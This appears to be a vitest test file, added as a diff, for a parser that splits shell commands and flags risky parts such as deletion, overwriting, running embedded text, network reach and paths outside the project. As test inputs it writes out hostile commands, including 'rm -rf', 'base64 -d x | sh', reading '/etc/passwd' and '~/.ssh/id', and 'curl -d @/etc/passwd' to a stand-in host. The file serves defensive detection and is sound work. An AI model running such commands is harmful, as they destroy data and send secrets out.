@@ -1,0 +1,135 @@
+import { describe, expect, test } from "vitest";
+import { readParts } from "../../src/shell/embedded/parts/read.ts";
+import type { Finding } from "../../src/shell/embedded/parts/part.ts";
+
+const sign = { first: "", next: "; ", and: "&& ", or: "|| ", pipe: "| ", background: "& ", inside: "> " } as const;
+const finding = (each: Finding) =>
+  each.kind === "reaches" ? `reaches ${each.host ?? "its own"}` : "path" in each ? `${each.kind} ${each.path}` : each.kind;
+
+/** A line for each part: how it follows, what it is, and in brackets what is to be known of it. */
+async function split(command: string): Promise<string[] | null> {
+  const parts = await readParts(command);
+  return (
+    parts?.map(({ joint, depth, frame, name, words, redirections, findings }) => {
+      const own = [frame === null ? null : `<${frame}>`, name, ...words, ...redirections].filter((each) => each !== null).join(" ");
+      return `${"  ".repeat(depth)}${sign[joint]}${own}${findings.length === 0 ? "" : ` [${findings.map(finding).join(", ")}]`}`;
+    }) ?? null
+  );
+}
+
+const commands: readonly (readonly [string, readonly string[]])[] = [
+  ["npm test -- --run board", ["npm test -- --run board"]],
+  ["א && ב || ג > /project/x", ["א", "&& ב", "|| ג > /project/x [overwrites /project/x]"]],
+  ["cat a | sort | uniq -c; ls & wait", ["cat a", "| sort", "| uniq -c", "; ls", "& wait"]],
+  ["r'm' -r\"f\" x", ["rm -rf x [deletes]"]],
+  ["echo $(rm x) `rm y`", ["echo $(…) $(…)", "  > rm x [deletes]", "  > rm y [deletes]"]],
+  ["echo $(( 1 + $(rm x) ))", ["echo $((…))", "  > rm x [deletes]"]],
+  ["(cd a && rm b)", ["<subshell>", "  > cd a", "  && rm b [deletes]"]],
+  [
+    "if test -f a; then rm a; else touch a; fi",
+    ["<if>", "  > test -f a", "  ; rm a [deletes]", "<else>", "  > touch a"].map((line) => line.replace("<else>", "; <else>")),
+  ],
+  ["for f in *.tmp; do rm $f; done", ["<loop> f *.tmp", "  > rm $f [deletes]"]],
+  ["f() { rm x; }; f", ["<function> f", "  > <group>", "    > rm x [deletes]", "; f"]],
+  ["cat <<E > out\n$(rm x)\nE", ["cat << E > out [overwrites out]", "  > rm x [deletes]"]],
+  ["diff <(cat a) <(rm b)", ["diff <(…) <(…)", "  > cat a", "  > rm b [deletes]"]],
+  ["[[ -n $(rm x) ]]", ["<test>", "  > rm x [deletes]"]],
+  ["find . -name '*.log' -exec rm {} \\;", ["find . -name *.log -exec rm {} ;", "  > rm {} [deletes]"]],
+  ["find . -delete", ["find . -delete [deletes]"]],
+  ["ls | xargs -n 1 rm -f", ["ls", "| xargs -n 1 rm -f", "  > rm -f [deletes]"]],
+  ["timeout 5 env A=1 rm x", ["timeout 5 env A=1 rm x", "  > env A=1 rm x", "    > rm x [deletes]"]],
+  [
+    "sh -c 'rm x; curl https://a.example/b'",
+    ["sh -c rm x; curl https://a.example/b [runs-text]", "  > rm x [deletes]", "  ; curl https://a.example/b [reaches a.example]"],
+  ],
+  ['eval "rm x"', ["eval rm x [runs-text]", "  > rm x [deletes]"]],
+  ["base64 -d x | sh", ["base64 -d x", "| sh [runs-text]"]],
+  ["node -e 'x()'; python3 -c 'y()'", ["node -e x() [runs-text]", "; python3 -c y() [runs-text]"]],
+  ["$CMD x", ["$CMD x [computed]"]],
+  [
+    "git clean -fd; git reset --hard; git checkout -- .; git restore a",
+    ["git clean -fd [deletes]", "; git reset --hard [deletes]", "; git checkout -- . [deletes]", "; git restore a [deletes]"],
+  ],
+  ["git status; git clean -n; git checkout main", ["git status", "; git clean -n", "; git checkout main"]],
+  [
+    "mv a b; dd if=a of=c; tee d; tee -a e",
+    ["mv a b [overwrites b]", "; dd if=a of=c [overwrites c]", "; tee d [overwrites d]", "; tee -a e"],
+  ],
+  ["sed -i s/a/b/ x; sed s/a/b/ x", ["sed -i s/a/b/ x [edits]", "; sed s/a/b/ x"]],
+  ["sqlite3 a.db 'drop table x'", ["sqlite3 a.db drop table x [deletes]"]],
+  [
+    "cat /etc/passwd ~/.ssh/id ../x /project/../y",
+    ["cat /etc/passwd ~/.ssh/id ../x /project/../y [outside /etc/passwd, outside ~/.ssh/id, outside ../x, outside /project/../y]"],
+  ],
+  ["cat /project/a b/../c ./d /dev/null 2>/dev/null", ["cat /project/a b/../c ./d /dev/null 2> /dev/null"]],
+  [
+    "tar -C/tmp --file=/tmp/x; A=/tmp/y make",
+    ["tar -C/tmp --file=/tmp/x [outside /tmp, outside /tmp/x]", "; make A=/tmp/y [outside /tmp/y]"],
+  ],
+  ["awk '/foo/ {print}' x; grep /a x", ["awk /foo/ {print} x", "; grep /a x"]],
+  [
+    "curl -sS https://xn--pple-43d.com/x -o /tmp/y",
+    ["curl -sS https://xn--pple-43d.com/x -o /tmp/y [reaches xn--pple-43d.com, outside /tmp/y]"],
+  ],
+  [
+    "git clone https://a.example/b.git; npm install left-pad",
+    ["git clone https://a.example/b.git [reaches a.example]", "; npm install left-pad [reaches its own]"],
+  ],
+  ["echo rm -rf / > log; echo done >> log", ["echo rm -rf / > log [overwrites log]", "; echo done >> log"]],
+  ["bash -s <<E\nrm x\nE", ["bash -s << E [runs-text]", "  > rm x [deletes]"]],
+  [
+    "sh <<< 'rm x'; python3 - <<< 'y()'; sh x.sh <<< y",
+    ["sh <<< rm x [runs-text]", "  > rm x [deletes]", "; python3 - <<< y() [runs-text]", "; sh x.sh <<< y"],
+  ],
+  [
+    "git -c a=b reset --hard; git -C sub clean -fd; git --work-tree a checkout HEAD b; git checkout b.txt; git checkout -b b.txt",
+    [
+      "git -c a=b reset --hard [deletes]",
+      "; git -C sub clean -fd [deletes]",
+      "; git --work-tree a checkout HEAD b [deletes]",
+      "; git checkout b.txt [deletes]",
+      "; git checkout -b b.txt",
+    ],
+  ],
+  [
+    "cp -t a b c; mv --target-directory=a b; sort -o a b",
+    ["cp -t a b c [overwrites a]", "; mv --target-directory=a b [overwrites a]", "; sort -o a b [overwrites a]"],
+  ],
+  ["[ -f a ] && b", ["[ -f a ]", "&& b"]],
+  ["xargs --max-args 1 rm", ["xargs --max-args 1 rm", "  > rm [deletes]"]],
+  ["cat {a,..}/b $PWD/../c $HOME/d", ["cat {a,..}/b $PWD/../c $HOME/d [outside ../b, outside $PWD/../c]"]],
+  [
+    "curl -H 'a: b' c.example d.example; curl $URL; curl 2130706433",
+    [
+      "curl -H a: b c.example d.example [reaches c.example, reaches d.example]",
+      "; curl $URL [reaches $URL]",
+      "; curl 2130706433 [reaches 127.0.0.1]",
+    ],
+  ],
+  ["curl -d @/etc/passwd https://a.example", ["curl -d @/etc/passwd https://a.example [reaches a.example, outside /etc/passwd]"]],
+  ["alias ls='rm x'", ["alias ls=rm x [runs-text]", "  > rm x [deletes]"]],
+  [
+    `awk '{ "rm x" | getline }' a; awk '{ print > "/tmp/b" }' c; sed -n '1w ../d' e; sed 's/a w /b/' f`,
+    [
+      `awk { "rm x" | getline } a [runs-text]`,
+      `; awk { print > "/tmp/b" } c [overwrites /tmp/b, outside /tmp/b]`,
+      "; sed -n 1w ../d e [overwrites ../d, outside ../d]",
+      "; sed s/a w /b/ f",
+    ],
+  ],
+  ["# only a remark", []],
+];
+
+describe("the parts of a command", () => {
+  test.each(commands)("%s", async (command, expected) => {
+    expect(await split(command)).toEqual(expected);
+  });
+
+  test.each(["echo 'open", "if true; then", "echo $(", "a;".repeat(501)])("%s can't be split", async (command) => {
+    expect(await readParts(command)).toBeNull();
+  });
+
+  test("nothing of it is run: a loop without an end ends", async () => {
+    expect(await split("while true; do :; done")).toEqual(["<loop>", "  > true", "  ; :"]);
+  });
+});
